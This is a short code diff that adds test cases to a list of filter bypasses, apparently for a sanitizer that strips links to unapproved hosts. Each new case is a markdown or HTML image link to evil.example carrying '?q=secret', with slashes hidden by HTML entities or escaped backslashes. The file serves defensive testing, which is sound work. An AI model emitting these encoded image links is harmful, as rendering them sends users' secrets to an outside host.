@@ -102,6 +102,9 @@ BYPASSES = [
     ("Go (www.evil.example/?q=secret) now", "Go ( now"),
     ("Go https://shop.example@evil.example/?q=secret now", "Go  now"),
     ("<img srcset='x.png 1x, https://evil.example/?q=secret 2x'>", "<img srcset='x.png 1x,  2x'>"),
+    ("See ![a](&#47;&#47;evil.example/p.png?q=secret) ok", "See  ok"),
+    ('<img src="&#x2f;&#x2F;evil.example/p.png?q=secret"> ok', " ok"),
+    ("See ![a](https:\\/\\/evil.example/p.png?q=secret) ok", "See  ok"),
     # kept: the allowed host (also written with a backslash), relative links, words that are no address
     ("See https://shop.example/a?b=1 and <https://shop.example/x>", None),
     ("See ![a](https:\\\\shop.example/l.png) and [b](/docs//guide) and a/b//c", None),
